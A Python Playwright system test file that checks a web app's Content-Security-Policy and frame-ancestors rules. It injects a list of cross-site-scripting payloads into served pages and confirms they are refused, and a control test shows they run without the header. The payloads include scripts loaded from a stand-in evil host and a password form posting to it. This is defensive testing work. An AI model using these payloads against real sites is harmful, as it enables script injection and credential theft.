"""The policy in a real browser: what gets into a page does not run there, what frames it sees nothing, and every journey of
these folders listens for anything that would break it (`people.NOTICE`)."""

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
from playwright.async_api import Page, Route

from app.core.clock import utc_now
from tests.factories.pages import make_page
from tests.support.patience import PATIENCE_SECONDS
from tests.system.people import Visitors

pytestmark = pytest.mark.system

EVIL = "https://evil.example"
# All that somebody would try who found a place where text is not escaped.
INJECTED = f"""
<script>window.ran = "script"</script>
<script src="{EVIL}/x.js"></script>
<script src="data:text/javascript,window.ran='data'"></script>
<img alt="" src="data:," onerror="window.ran = 'handler'">
<svg><animate onbegin="window.ran = 'animation'" attributeName="x" dur="1s"></animate></svg>
<p id="by-attribute" style="color: rgb(1, 2, 3)">x</p>
<style>#by-element {{ color: rgb(1, 2, 3) }}</style><p id="by-element">x</p>
<link rel="stylesheet" href="{EVIL}/x.css"><img alt="" src="{EVIL}/x.gif">
<iframe title="x" src="{EVIL}/"></iframe><object data="{EVIL}/x"></object>
<base href="{EVIL}/"><form id="leaving" action="{EVIL}/form" method="post"><input name="password"></form>
</body>"""
REFUSED = {
    "script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem", "img-src", "frame-src", "object-src",
    "base-uri", "form-action",
}  # fmt: skip
HEARD = "document.addEventListener('securitypolicyviolation', (one) => (window.refused ??= []).push(one.effectiveDirective));"
DONE = """() => {
  document.querySelector("#leaving").submit();
  document.querySelector("#by-element").insertAdjacentHTML("beforeend", "<img alt='' src='data:,' onerror='window.ran = 1'>");
  const late = document.createElement("script"); late.text = "window.ran = 'late'"; document.body.append(late);
}"""


class Injection:
    """Rewrites pages on their way to the browser, and answers for the evil host. Without `policy`, that header is lost."""

    def __init__(self, *, policy: bool = True) -> None:
        self.policy = policy
        self.asked: set[str] = set()

    async def over(self, page: Page) -> None:
        await page.add_init_script(HEARD)
        await page.route("**/*", self._rewrite)
        await page.route(f"{EVIL}/**", self._evil)

    async def _evil(self, route: Route) -> None:
        self.asked.add(route.request.url.removeprefix(EVIL))
        await route.fulfill(status=200, body="")

    async def _rewrite(self, route: Route) -> None:
        if not route.request.is_navigation_request():
            await route.continue_()
            return
        answer = await route.fetch()
        dropped = {"content-length", "content-encoding"}
        if not self.policy:
            dropped.add("content-security-policy")
        headers = {name: value for name, value in answer.headers.items() if name not in dropped}
        body = (await answer.text()).replace("</body>", INJECTED)
        await route.fulfill(status=answer.status, headers=headers, body=body)


async def _colour(page: Page, id: str) -> str:
    return await page.evaluate(f"getComputedStyle(document.querySelector('{id}')).color")


async def _places(owner: Any) -> list[str]:
    made = await make_page(owner.viewer, now=utc_now())
    return [
        f"/p/{made.short_id}",
        f"/p/{made.short_id}/embed",
        "/console/pages",
        f"/console/pages/{made.id}/edit",
        "/console/account",
    ]


async def test_nothing_that_gets_into_a_page_runs_there(owner: Any, visitors: Visitors) -> None:
    places = await _places(owner)
    page = await visitors(owner.viewer)
    injection = Injection()
    await injection.over(page)
    for place in places:
        await page.goto(place)
        await page.evaluate(DONE)
        # The frame's sandbox has no forms to begin with.
        wanted = REFUSED - {"form-action"} if place.endswith("/embed") else REFUSED
        async with asyncio.timeout(PATIENCE_SECONDS):
            while not wanted <= set(await page.evaluate("window.refused ?? []")):
                await asyncio.sleep(0.05)
        assert await page.evaluate("window.ran ?? ''") == "", place
        for id in ("#by-attribute", "#by-element"):
            assert await _colour(page, id) != "rgb(1, 2, 3)", (place, id)
    assert injection.asked == set()
    # The control of every other journey: what is refused is heard there, and fails it.
    watch = visitors.watch(page)
    assert any("policy: script-src-elem" in line for line in watch.complaints)
    watch.complaints.clear()


async def test_without_the_policy_it_would(owner: Any, visitors: Visitors) -> None:
    """The control: the same bytes run, colour and ask strangers when the header is taken away."""
    page = await visitors(owner.viewer)
    injection = Injection(policy=False)
    await injection.over(page)
    await page.goto("/console/account")
    await page.wait_for_function("window.ran !== undefined")
    assert await _colour(page, "#by-attribute") == await _colour(page, "#by-element")
    assert {"/x.js", "/x.css", "/x.gif"} <= injection.asked
    visitors.watch(page).complaints.clear()


@pytest.fixture
async def elsewhere(web_server: str) -> AsyncIterator[str]:
    """Another site, with frames of ours."""
    body = "".join(
        f'<iframe title="{path}" src="{web_server}{path}"></iframe>'
        for path in ("/login", "/console/account", "/")
    ).encode()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n"
        writer.write(head.encode() + b"Connection: close\r\n\r\n" + body)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "localhost", 0)
    yield f"http://localhost:{server.sockets[0].getsockname()[1]}/"
    server.close()


async def test_no_other_site_can_lay_our_pages_under_its_own(
    owner: Any, visitors: Visitors, elsewhere: str
) -> None:
    """Clickjacking: a frame of the console, of the log-in, of the front page stays empty elsewhere."""
    page = await visitors(owner.viewer)
    await page.goto(elsewhere, wait_until="load")
    frames = page.frames[1:]
    assert len(frames) == 3
    for frame in frames:
        await frame.wait_for_load_state()
        assert "Mayfly" not in await frame.content()
        assert await frame.query_selector("form") is None
    watch = visitors.watch(page)
    assert sum("frame-ancestors" in line for line in watch.complaints) == 3
    watch.complaints.clear()
